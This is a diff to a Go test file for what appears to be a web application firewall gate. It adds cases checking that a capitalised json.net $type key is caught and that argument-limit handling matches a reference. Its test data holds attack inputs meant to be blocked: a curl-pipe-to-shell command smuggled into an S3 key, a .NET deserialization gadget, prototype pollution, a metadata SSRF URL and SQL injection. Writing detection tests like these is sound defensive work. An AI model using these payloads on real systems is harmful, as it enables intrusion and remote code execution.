@@ -87,6 +87,7 @@ var recordCases = []struct {
 	{"s3 key shell", source.Record{Fields: []source.Field{{Name: "s3.object.key", Value: "img;curl x|sh.png"}}}, true, 100160, "s3.object.key"},
 	{"proto pollution key", source.Record{Fields: []source.Field{{Name: "body.__proto__.admin", Value: "true"}}}, true, 100130, "body.__proto__.admin"},
 	{"json.net type", source.Record{Fields: []source.Field{{Name: "body.obj.$type", Value: "System.Windows.Data.ObjectDataProvider, PresentationFramework"}}}, true, 100121, "body.obj.$type"},
+	{"json.net type, key in capitals", source.Record{Fields: []source.Field{{Name: "body.obj.$TYPE", Value: "System.Windows.Data.ObjectDataProvider, PresentationFramework"}}}, true, 100121, "body.obj.$TYPE"},
 	{"java class in a key", source.Record{Fields: []source.Field{{Name: `body.java\.lang\.Runtime`, Value: "x"}}}, true, 944130, `body.java\.lang\.Runtime`},
 	{"json keys that spell dotfiles", source.Record{Fields: []source.Field{{Name: "dynamodb.NewImage.profile.name", Value: "Ada"}, {Name: "body.history[0].credentials", Value: "x"}}}, false, 0, ""},
 	{"metadata ssrf decimal", source.Record{Fields: []source.Field{{Name: "body.url", Value: "http://2852039166/latest/meta-data/"}}}, true, 100110, "body.url"},
@@ -413,6 +414,36 @@ func TestWarmBounded(t *testing.T) {
 			if len(st.out) > maxWarmLen {
 				t.Errorf("warm cache kept a %d-byte transformation result", len(st.out))
 			}
+		}
+	}
+}
+
+// Past SecArgumentsLimit, Coraza drops arguments and sets
+// ARGUMENTS_LIMIT_REACHED; the gate then leaves the arguments to the
+// transaction (holdsArgs) and agrees with the reference on either side of
+// the limit.
+func TestArgumentLimit(t *testing.T) {
+	s := rules.Settings{Paranoia: 1, Threshold: 5, MaxDepth: 64, MaxArgs: 3}
+	fast, err := New(s, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ref, err := New(s, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := 1; n <= 5; n++ {
+		rec := &source.Record{}
+		for i := range n {
+			rec.Fields = append(rec.Fields, source.Field{Name: fmt.Sprintf("body.f%d", i), Value: "ok"})
+		}
+		rec.Fields[n-1].Value = "1' or '1'='1" // the last one
+		got, want := fast.NewBatch().Record(rec), ref.NewBatch().Record(rec)
+		if !reflect.DeepEqual(got, want) {
+			t.Errorf("%d arguments, limit 3: fast path %+v, reference %+v", n, got, want)
+		}
+		if n <= 3 && !got.Blocked {
+			t.Errorf("%d arguments, limit 3: the attack in the last was not blocked", n)
 		}
 	}
 }
